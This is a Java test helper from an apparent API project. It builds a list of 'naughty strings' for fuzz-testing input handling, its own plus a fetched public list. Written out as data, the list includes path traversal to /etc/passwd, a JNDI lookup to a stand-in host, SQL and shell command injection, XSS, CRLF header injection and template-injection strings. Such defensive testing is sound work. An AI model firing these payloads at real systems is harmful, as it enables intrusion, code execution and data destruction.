package io.apiinone.api.testing;

import static io.apiinone.api.testing.Words.words;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import tools.jackson.databind.json.JsonMapper;

/**
 * Strings that have broken somebody's software: some of our own, and those of npm's big-list-of-naughty-strings (MIT licence),
 * which {@code ./test} fetches and names in {@code NAUGHTY_STRINGS}.
 */
public final class NaughtyStrings {
    private static final List<String> OURS = words(
            """
            \u0000 a\u0000b \u0001\u0002\u001f\u007f\u0080\u009f \ufeff \ufffe\uffff \ud800 \udfff a\udc00\ud800b
            ../../../../etc/passwd ..%2f..%2f %00 % %zz %u0041 \\ \\\\server\\share ' '' " ${jndi:ldap://a.example/x}
            #{7*7} {{7*7}} <script>alert(1)</script> javascript:alert(1) null undefined NaN Infinity -1 0x10 1e400
            99999999999999999999 2147483648 true [] {} \u202etxt.exe \u200b\u200c\u200d\u2060 é e\u0301 ﷺ Z̸̡̛a̷l̵g̶o̴
            🏴󠁧󠁢󠁥󠁮󠁧󠁿 👩‍👩‍👧‍👦 田中さん مُنَاقَشَةُ א \u2028\u2029 __proto__ constructor toString con aux.h /dev/null ~0~1 ~
            /a/b a=b&c=d ? # ; ;jsessionid=1 * @ %s%n%x {0}""",
            "",
            " ",
            "\r\nX-Injected: yes",
            "\r\n\r\nHTTP/1.1 200 OK",
            "'; drop table books.task; --",
            "' or '1'='1",
            "1; select pg_sleep(9)",
            "$(sleep 9)",
            "`sleep 9`",
            "\" onload=\"x",
            "[object Object]",
            "ı İ ß ﬁ",
            "a".repeat(5001),
            "🚲".repeat(501),
            "/".repeat(300));

    private NaughtyStrings() {}

    public static List<String> all() {
        List<String> all = new ArrayList<>(OURS);
        fetched().forEach(all::add);
        return all.stream().distinct().toList();
    }

    /** Empty where {@code ./test} could not fetch them. */
    private static Stream<String> fetched() {
        String file = System.getenv().getOrDefault("NAUGHTY_STRINGS", "");
        if (file.isEmpty()) {
            return Stream.empty();
        }
        try {
            return JsonMapper.shared()
                    .readTree(Files.readString(Path.of(file)))
                    .valueStream()
                    .map(string -> string.asString());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
